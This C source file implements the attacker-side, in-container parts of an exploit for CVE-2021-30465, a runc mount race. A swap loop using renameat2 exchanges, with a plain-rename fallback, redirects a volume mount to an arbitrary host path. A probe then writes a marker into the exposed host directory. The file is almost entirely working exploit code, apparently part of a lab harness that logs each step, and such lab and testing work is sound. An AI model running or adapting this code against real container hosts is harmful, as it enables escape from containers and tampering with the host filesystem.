/*
 * CVE-2021-30465, the attacker's in-container parts (both containers of the pod are the
 * attacker's: the pod spec and the images are).
 *
 *   /attack swap <dir> <symlink target> <exposer> <exposed host path> [--no-fallback]
 *       c1, running: makes <exposer> (in volume test2) a symlink to the host path to expose, then
 *       exchanges <dir> (in volume test1, where c2's nested volume is mounted) with a symlink to
 *       <symlink target> (the host directory holding the pod's volumes) in a loop, with
 *       renameat2(RENAME_EXCHANGE) as the PoC; when that is refused (seccomp), with three plain
 *       renames (non-atomic) unless --no-fallback. Creates <dir's parent>/.ready once looping;
 *       loops for at most 12 s (the manager kills it).
 *   /attack probe <dir>
 *       c2, c3, ...: if <dir> shows the exposed host directory (it holds .bw-host-dir), writes
 *       <dir>/marker there. Exit 0: written; 2: seen but the write was refused; 1: not exposed.
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int probe(const char *dir) {
  char flag[4200], marker[4200];
  snprintf(flag, sizeof flag, "%s/.bw-host-dir", dir);
  snprintf(marker, sizeof marker, "%s/marker", dir);
  if (access(flag, F_OK) != 0) return 1;
  bw_step("attack (c2): the host directory is mounted in the container", 1, 0, dir);
  if (bw_write_file(marker, "written from inside a container through a mount runc placed outside its rootfs\n") != 0) {
    bw_step("attack (c2): write the marker into the host directory", 0, errno, marker);
    return 2;
  }
  bw_step("attack (c2): write the marker into the host directory", 1, 0, marker);
  return 0;
}

/* Keeps swapping <dir> and <swap> with three renames; tolerates the runtime creating <dir>
   while it is missing (runc's MkdirAll of the destination). */
static int swap_plain(const char *dir, const char *swap, const char *stash, unsigned long *errors) {
  if (rename(dir, stash) != 0) {
    (*errors)++;
    return -1;
  }
  if (rename(swap, dir) != 0) {
    (*errors)++;
    /* Someone created <dir> meanwhile: remove the empty directory and go on. */
    if (errno == EISDIR || errno == ENOTEMPTY || errno == EEXIST) rmdir(dir);
    rename(stash, dir);
    return -1;
  }
  if (rename(stash, swap) != 0) {
    (*errors)++;
    return -1;
  }
  return 0;
}

static int swap_loop(const char *dir, const char *target, const char *exposer, const char *exposed, int fallback) {
  char parentbuf[4096], swap[4200], stash[4200], ready[4200];
  snprintf(parentbuf, sizeof parentbuf, "%s", dir);
  const char *parent = dirname(parentbuf);
  snprintf(swap, sizeof swap, "%s.swap", dir);
  snprintf(stash, sizeof stash, "%s.stash", dir);
  snprintf(ready, sizeof ready, "%s/.ready", parent);
  unlink(exposer);
  if (symlink(exposed, exposer) != 0) {
    bw_step("attack (c1): plant the symlink to the host path in the shared volume", 0, errno, exposer);
    return 1;
  }
  bw_step("attack (c1): plant the symlink to the host path in the shared volume", 1, 0, exposed);
  if (bw_mkdirs(dir, 0755) != 0) {
    bw_step("attack (c1): create the mount destination", 0, errno, dir);
    return 1;
  }
  unlink(swap);
  if (symlink(target, swap) != 0) {
    bw_step("attack (c1): create the symlink to the host's volumes directory", 0, errno, swap);
    return 1;
  }
  bw_step("attack (c1): create the symlink to the host's volumes directory", 1, 0, target);
  if (bw_write_file(ready, "") != 0) return 1;

  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  int atomic = 1;
  unsigned long swaps = 0, errors = 0;
  for (;;) {
    if ((swaps & 1023) == 0) {
      clock_gettime(CLOCK_MONOTONIC, &now);
      if (now.tv_sec - start.tv_sec >= 12) break;
    }
    if (atomic) {
      if (syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, swap, RENAME_EXCHANGE) == 0) {
        if (swaps++ == 0) bw_step("attack (c1): exchange destination and symlink (renameat2 RENAME_EXCHANGE)", 1, 0, dir);
        continue;
      }
      bw_step("attack (c1): exchange destination and symlink (renameat2 RENAME_EXCHANGE)", 0, errno, dir);
      if (!fallback) return 1;
      atomic = 0;
    }
    if (swap_plain(dir, swap, stash, &errors) == 0 && swaps++ == 0)
      bw_step("attack (c1): swap destination and symlink (three renames)", 1, 0, dir);
    if (errors > 100000) {
      bw_step("attack (c1): swap destination and symlink (three renames)", 0, errno, "too many failures");
      return 1;
    }
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 3 && strcmp(argv[1], "probe") == 0) return probe(argv[2]);
  if ((argc == 6 || argc == 7) && strcmp(argv[1], "swap") == 0)
    return swap_loop(argv[2], argv[3], argv[4], argv[5], !(argc == 7 && strcmp(argv[6], "--no-fallback") == 0));
  fprintf(stderr, "usage: %s swap <dir> <symlink target> <exposer> <exposed> [--no-fallback] | probe <dir>\n", argv[0]);
  return 2;
}
